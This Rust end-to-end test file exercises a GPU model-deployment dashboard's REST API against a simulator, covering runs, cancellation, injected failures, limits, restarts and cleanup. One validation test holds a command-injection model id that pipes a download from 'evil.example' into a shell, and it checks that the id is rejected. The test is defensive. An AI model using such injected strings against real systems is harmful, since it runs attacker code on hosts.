//! The deployment test end to end on the embedded simulator, over the REST API: a passing
//! run, cancel mid-run, a failure injected at every step, keep-on-failure, limits, bad
//! input, and runs surviving a restart.

use crate::dashboard::Dashboard;
use crate::support::eventually;
use gdl_model::code::ErrorCode;
use gdl_model::runs::{Run, RunStatus, StepName, StepStatus};
use gdl_model::shopper::SessionStatus;
use serde_json::{json, Value};
use std::time::Duration;

pub async fn post(d: &Dashboard, path: &str, body: Value) -> (u16, Value) {
    let r = d
        .http
        .post(format!("{}{path}", d.url))
        .json(&body)
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    let text = r.text().await.unwrap();
    (status, serde_json::from_str(&text).unwrap_or(Value::Null))
}

pub async fn start(d: &Dashboard, body: Value) -> String {
    let (status, reply) = post(d, "/api/runs", body).await;
    assert_eq!(status, 201, "{reply}");
    reply["id"].as_str().unwrap().to_owned()
}

pub async fn run(d: &Dashboard, id: &str) -> Run {
    d.get(&format!("/api/runs/{id}"))
        .await
        .json()
        .await
        .unwrap()
}

/// A stored benchmark's record.
pub async fn benchmark(d: &Dashboard, id: &str) -> gdl_model::runs::BenchmarkRecord {
    let detail: serde_json::Value = d
        .get(&format!("/api/benchmarks/{id}"))
        .await
        .json()
        .await
        .unwrap();
    serde_json::from_value(detail["benchmark"].clone()).unwrap()
}

pub async fn finished(d: &Dashboard, id: &str) -> Run {
    eventually(Duration::from_secs(60), || async {
        let r = run(d, id).await;
        r.status.is_finished().then_some(r)
    })
    .await
}

fn step(run: &Run, name: StepName) -> &gdl_model::runs::Step {
    run.steps.iter().find(|s| s.name == name).unwrap()
}

pub const SMALL: &str = r#"{"model":"qwen2.5-0.5b","max_price":5}"#;

#[tokio::test]
async fn a_run_completes_all_eleven_steps_and_stores_a_benchmark() {
    let d = Dashboard::start(None).await;
    let id = start(&d, serde_json::from_str(SMALL).unwrap()).await;
    let done = finished(&d, &id).await;
    assert_eq!(done.status, RunStatus::Passed, "{:?}", done.error);
    assert!(
        done.steps.iter().all(|s| s.status == StepStatus::Complete),
        "{:#?}",
        done.steps
    );
    assert!(done
        .steps
        .iter()
        .all(|s| s.started_at.is_some() && s.ended_at.is_some()));
    let host = done.host.as_ref().unwrap();
    assert_eq!(
        host.gpus.len() as u32,
        done.offer.as_ref().unwrap().gpu_count
    );
    assert!(host.docker_version.is_some() && host.cuda_version.is_some());
    let cleanup = done.cleanup.as_ref().unwrap();
    assert!(cleanup.destroyed_confirmed && !cleanup.kept);
    let session = d
        .broker()
        .get_session(done.session_id.as_ref().unwrap())
        .await
        .unwrap();
    assert_eq!(session.status, SessionStatus::Stopped);

    let bench_id = done.benchmark_id.clone().unwrap();
    let reply: Value = d
        .get(&format!("/api/benchmarks/{bench_id}"))
        .await
        .json()
        .await
        .unwrap();
    let phases = reply["benchmark"]["phases"].as_array().unwrap();
    assert_eq!(phases.len(), 2);
    for p in phases {
        assert!(p["ttft_ms"]["p50"].as_f64().unwrap() > 0.0);
        assert!(p["tpot_ms"]["p50"].as_f64().unwrap() > 0.0);
        assert!(p["output_tokens_per_s"].as_f64().unwrap() > 0.0);
        assert!(p["usd_per_million_output_tokens"].as_f64().unwrap() > 0.0);
    }
    assert_eq!(reply["benchmark"]["prompts_matching"], 4);
    assert!(
        reply["samples"].as_array().unwrap().len() >= 4 + 4 + 4,
        "raw samples kept"
    );
    let list: Vec<Value> = d.get("/api/benchmarks").await.json().await.unwrap();
    assert_eq!(list.len(), 1);
    // The log tells the story; the start command reads the vLLM API key from a file.
    let logs = d.state.dashboard.hub().clone_state().logs[&id].clone();
    assert!(logs
        .iter()
        .any(|l| l.message.contains("--env-file .gdl/engine.env")));
    assert!(logs.iter().all(|l| !l.message.contains("VLLM_API_KEY")));
}

#[tokio::test]
async fn cancel_mid_run_destroys_the_session_and_says_so() {
    let d = Dashboard::start(None).await;
    let id = start(&d, serde_json::from_str(SMALL).unwrap()).await;
    eventually(Duration::from_secs(30), || async {
        let r = run(&d, &id).await;
        (r.session_id.is_some() && step(&r, StepName::CreateSession).status == StepStatus::Complete)
            .then_some(())
    })
    .await;
    assert_eq!(
        post(&d, &format!("/api/runs/{id}/cancel"), Value::Null)
            .await
            .0,
        202
    );
    let done = finished(&d, &id).await;
    assert_eq!(done.status, RunStatus::Cancelled);
    let cleanup = done.cleanup.as_ref().unwrap();
    assert!(cleanup.destroyed_confirmed, "{}", cleanup.message);
    assert!(cleanup.message.contains("destroyed"));
    assert_eq!(step(&done, StepName::Cleanup).status, StepStatus::Complete);
    let session = d
        .broker()
        .get_session(done.session_id.as_ref().unwrap())
        .await
        .unwrap();
    assert_eq!(session.status, SessionStatus::Stopped);
    assert_eq!(
        post(&d, &format!("/api/runs/{id}/cancel"), Value::Null)
            .await
            .0,
        409
    );
    assert_eq!(post(&d, "/api/runs/nope/cancel", Value::Null).await.0, 404);
}

#[tokio::test]
async fn a_failure_at_each_step_is_reported_and_cleanup_still_runs() {
    let d = Dashboard::start(None).await;
    for name in StepName::ALL
        .iter()
        .copied()
        .filter(|s| *s != StepName::Cleanup)
    {
        d.state.dashboard.runner().inject_failure(Some(name));
        let id = start(&d, serde_json::from_str(SMALL).unwrap()).await;
        let done = finished(&d, &id).await;
        assert_eq!(done.status, RunStatus::Failed, "{name:?}");
        let failed = step(&done, name);
        assert_eq!(failed.status, StepStatus::Failed, "{name:?}");
        assert!(
            failed.reason.as_deref().unwrap().contains("injected"),
            "{name:?}"
        );
        assert_eq!(failed.code, Some(ErrorCode::InjectedFailure), "{name:?}");
        assert_eq!(done.error_code, Some(ErrorCode::InjectedFailure));
        assert!(done.error.as_deref().unwrap().contains(name.label()));
        let later: Vec<_> = done
            .steps
            .iter()
            .skip_while(|s| s.name != name)
            .skip(1)
            .filter(|s| s.name != StepName::Cleanup)
            .collect();
        let index = StepName::ALL.iter().position(|n| *n == name).unwrap();
        assert_eq!(later.len(), StepName::ALL.len() - index - 2, "{name:?}");
        assert!(
            later.iter().all(|s| s.status == StepStatus::Skipped),
            "{name:?}: later steps skipped"
        );
        let cleanup = step(&done, StepName::Cleanup);
        match &done.session_id {
            Some(session) => {
                assert_eq!(cleanup.status, StepStatus::Complete, "{name:?}");
                assert!(done.cleanup.as_ref().unwrap().destroyed_confirmed);
                let s = d.broker().get_session(session).await.unwrap();
                assert_eq!(s.status, SessionStatus::Stopped, "{name:?}");
            }
            None => assert_eq!(
                cleanup.status,
                StepStatus::Skipped,
                "{name:?}: nothing to clean"
            ),
        }
    }
    // The page shows the failed step's code (server-rendered, before any script runs).
    let html = d.get("/").await.text().await.unwrap();
    assert!(
        html.contains("data-code=\"injected_failure\""),
        "the code on the page"
    );
}

/// A run that fails at Verify deployment with "keep the instance" on: its id and record.
pub async fn kept_failed_run(d: &Dashboard) -> (String, Run) {
    d.state
        .dashboard
        .runner()
        .inject_failure(Some(StepName::VerifyDeployment));
    let id = start(
        d,
        json!({"model": "qwen2.5-0.5b", "max_price": 5, "keep_on_failure": true}),
    )
    .await;
    let done = finished(d, &id).await;
    assert_eq!(done.status, RunStatus::Failed);
    (id, done)
}

#[tokio::test]
async fn keep_on_failure_leaves_the_instance_running() {
    let d = Dashboard::start(None).await;
    let (_, done) = kept_failed_run(&d).await;
    let cleanup = done.cleanup.as_ref().unwrap();
    assert!(cleanup.kept && !cleanup.destroyed_confirmed);
    assert_eq!(step(&done, StepName::Cleanup).status, StepStatus::Skipped);
    let s = d
        .broker()
        .get_session(done.session_id.as_ref().unwrap())
        .await
        .unwrap();
    assert_eq!(s.status, SessionStatus::Running);
}

#[tokio::test]
async fn bad_input_and_the_run_limit_get_clear_errors() {
    let d = Dashboard::start(None).await;
    for (body, code) in [
        (json!({"model": "qwen2.5-0.5b"}), "invalid_input"),
        (
            json!({"model": "qwen2.5-0.5b", "max_price": -1}),
            "invalid_input",
        ),
        (
            json!({"model": "qwen2.5-0.5b", "max_price": 1, "reservation_hours": 0}),
            "invalid_input",
        ),
        (
            json!({"model": "Qwen/Qwen2.5-0.5B; curl evil.example | sh", "max_price": 1}),
            "invalid_model_id",
        ),
        (
            json!({"model": "gemma-2b", "max_price": 1, "quantization": "gptq"}),
            "quantization_unavailable",
        ),
        (
            json!({"model": "no-such-model", "max_price": 1}),
            "invalid_model_id",
        ),
    ] {
        let (status, reply) = post(&d, "/api/runs", body.clone()).await;
        assert_eq!(status, 400, "{body}");
        assert_eq!(reply["code"], code, "{body}: {reply}");
        assert!(reply["hint"].is_string());
    }
    assert!(
        d.state.dashboard.hub().clone_state().runs.is_empty(),
        "refused input starts nothing"
    );
    let first = start(&d, serde_json::from_str(SMALL).unwrap()).await;
    let (status, reply) = post(&d, "/api/runs", serde_json::from_str(SMALL).unwrap()).await;
    assert_eq!(status, 409);
    assert_eq!(reply["code"], "run_in_progress");
    finished(&d, &first).await;
}

#[tokio::test]
async fn completed_runs_and_benchmarks_survive_a_restart() {
    let d = Dashboard::start(None).await;
    let id = start(&d, serde_json::from_str(SMALL).unwrap()).await;
    let done = finished(&d, &id).await;
    assert_eq!(done.status, RunStatus::Passed, "{:?}", done.error);
    let bench_id = done.benchmark_id.clone().unwrap();
    let bench_url = format!("/api/benchmarks/{bench_id}");
    let bench_before: Value = d.get(&bench_url).await.json().await.unwrap();
    let log_before = d.state.dashboard.hub().with_state(|s| s.logs[&id].clone());
    let data_dir = d.data_dir.clone();
    drop(d);
    let again = Dashboard::start_in(None, data_dir).await;
    let back = run(&again, &id).await;
    assert_eq!(
        serde_json::to_value(&back).unwrap(),
        serde_json::to_value(&done).unwrap(),
        "the run comes back as it was: steps, rentals, cleanup, host"
    );
    let bench_after: Value = again.get(&bench_url).await.json().await.unwrap();
    assert!(
        !bench_before["samples"].as_array().unwrap().is_empty(),
        "{bench_before}"
    );
    assert_eq!(bench_after, bench_before, "phases and raw samples");
    let log_after = again
        .state
        .dashboard
        .hub()
        .with_state(|s| s.logs[&id].clone());
    assert!(log_before.len() > 20, "{} lines", log_before.len());
    assert_eq!(log_after, log_before, "every log line");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_starts_at_the_same_moment_make_one_run() {
    let d = Dashboard::start(None).await;
    let body: Value = serde_json::from_str(SMALL).unwrap();
    for _ in 0..3 {
        let (a, b) = tokio::join!(
            post(&d, "/api/runs", body.clone()),
            post(&d, "/api/runs", body.clone())
        );
        let mut statuses = [a.0, b.0];
        statuses.sort();
        assert_eq!(statuses, [201, 409], "{} {}", a.1, b.1);
        let id = if a.0 == 201 { &a.1["id"] } else { &b.1["id"] };
        let id = id.as_str().unwrap();
        let (status, _) = post(&d, &format!("/api/runs/{id}/cancel"), json!({})).await;
        assert!(status == 202 || status == 409, "{status}");
        finished(&d, id).await;
    }
    assert_eq!(d.state.dashboard.hub().with_state(|s| s.runs.len()), 3);
}

#[tokio::test]
async fn max_runs_allows_that_many_and_starts_are_limited_to_twelve_a_minute() {
    let d =
        Dashboard::start_custom(None, crate::process::data_dir(), |s| s.runs.max_runs = 2).await;
    let a = start(&d, serde_json::from_str(SMALL).unwrap()).await;
    let b = start(&d, serde_json::from_str(SMALL).unwrap()).await;
    let (status, reply) = post(&d, "/api/runs", serde_json::from_str(SMALL).unwrap()).await;
    assert_eq!(
        (status, reply["code"].as_str()),
        (409, Some("run_in_progress"))
    );
    for id in [&a, &b] {
        post(&d, &format!("/api/runs/{id}/cancel"), json!({})).await;
        finished(&d, id).await;
    }
    // Runs that end at once (nothing is that cheap), up to the minute's limit.
    let cheap = json!({"model": "qwen2.5-0.5b", "max_price": 0.001});
    for n in 3..=12 {
        let id = start(&d, cheap.clone()).await;
        assert_eq!(
            finished(&d, &id).await.error_code,
            Some(ErrorCode::NoOffers),
            "{n}"
        );
    }
    let (status, reply) = post(&d, "/api/runs", cheap).await;
    assert_eq!(status, 429, "{reply}");
    assert_eq!(reply["code"], "rate_limited");
    assert!(reply["hint"].is_string());
}

#[tokio::test]
async fn a_run_that_finds_its_offer_rented_by_another_run_rents_the_next_best() {
    // The broker keeps one active session per consumer and offer: a second run on the
    // offer the first holds is refused as a duplicate (nothing is created), and rents the
    // next best instead of failing.
    let d = Dashboard::start_custom(None, crate::process::data_dir(), |s| {
        s.runs.max_runs = 2;
        s.sim_mut().ghosts = false;
    })
    .await;
    // A pinned test rents only the pinned offer's GPU: one with another offer of it.
    let listed = d.broker().inventory_all(&Default::default()).await.unwrap();
    let kind = |o: &gdl_model::shopper::Offer| (o.gpu_type.clone(), o.gpu_count);
    let offer = listed
        .iter()
        .filter(|o| o.cuda_version.is_none_or(|v| v >= 12.1) && o.vram_gb >= 4)
        .find(|o| listed.iter().filter(|u| kind(u) == kind(o)).count() >= 3)
        .cloned()
        .unwrap();
    let pinned = json!({"model": "qwen2.5-0.5b", "max_price": 100, "pin_offer": offer.id});
    let a = start(&d, pinned.clone()).await;
    eventually(Duration::from_secs(60), || async {
        run(&d, &a).await.session_id.map(|_| ())
    })
    .await;
    let b = start(&d, pinned).await;
    let (a, b) = (finished(&d, &a).await, finished(&d, &b).await);
    for r in [&a, &b] {
        assert_eq!(r.status, RunStatus::Passed, "{:?}", r.error);
    }
    let rented = |r: &Run| r.rentals[0].offer.offer_id.clone();
    let kind_of = |r: &Run| {
        (
            r.rentals[0].offer.gpu_type.clone(),
            r.rentals[0].offer.gpu_count,
        )
    };
    assert_eq!(rented(&a), offer.id, "the first run has the pinned offer");
    assert_ne!(rented(&b), offer.id, "the second rents another");
    assert_eq!(
        kind_of(&b),
        (offer.gpu_type.clone(), offer.gpu_count),
        "of the same GPU"
    );
    let logs = d.state.dashboard.hub().clone_state().logs;
    assert!(
        logs[&b.id]
            .iter()
            .any(|l| l.message.contains("already rented by another run")),
        "the second run says why it moved on"
    );
}

#[tokio::test]
async fn pip_mode_passes_too() {
    let d = Dashboard::start(None).await;
    let id = start(
        &d,
        json!({"model": "qwen2.5-0.5b", "max_price": 5, "deploy_mode": "pip"}),
    )
    .await;
    let done = finished(&d, &id).await;
    assert_eq!(done.status, RunStatus::Passed, "{:?}", done.error);
    let logs = d.state.dashboard.hub().clone_state().logs[&id].clone();
    assert!(logs
        .iter()
        .any(|l| l.message.contains("pip install") && l.message.contains("vllm==")));
}

#[tokio::test]
async fn dashboard_shutdown_cleans_up_a_run_in_progress() {
    let d = Dashboard::start(None).await;
    let id = start(&d, serde_json::from_str(SMALL).unwrap()).await;
    let session = eventually(Duration::from_secs(30), || async {
        run(&d, &id).await.session_id
    })
    .await;
    let broker = d.broker();
    // Keep the embedded broker alive after the dashboard is gone, to ask it afterwards.
    let _simulator = d.state.simulator.clone();
    let runner = d.state.dashboard.runner().clone();
    let store = runner.store().clone();
    drop(d); // stops the server: runs are cancelled and cleaned up before it exits
    eventually(Duration::from_secs(30), || async {
        (runner.active_count() == 0).then_some(())
    })
    .await;
    let s = broker.get_session(&session).await.unwrap();
    assert_eq!(
        s.status,
        SessionStatus::Stopped,
        "no paid instance left behind"
    );
    let stored = store.run(&id.as_str().into()).await.unwrap().unwrap();
    assert_eq!(stored.status, RunStatus::Cancelled);
    assert!(stored.cleanup.unwrap().destroyed_confirmed);
}

/// A run `run-interrupted` as a process that died during `step` left it: the steps before
/// complete, `step` running since now.
pub fn stopped_during(step: StepName) -> Run {
    let mut run = Run::new(
        "run-interrupted".into(),
        serde_json::from_str(SMALL).unwrap(),
        chrono::Utc::now(),
    );
    for s in run.steps.iter_mut().take_while(|s| s.name != step) {
        s.status = StepStatus::Complete;
    }
    let running = run.step_mut(step);
    running.status = StepStatus::Running;
    running.started_at = Some(chrono::Utc::now());
    run
}
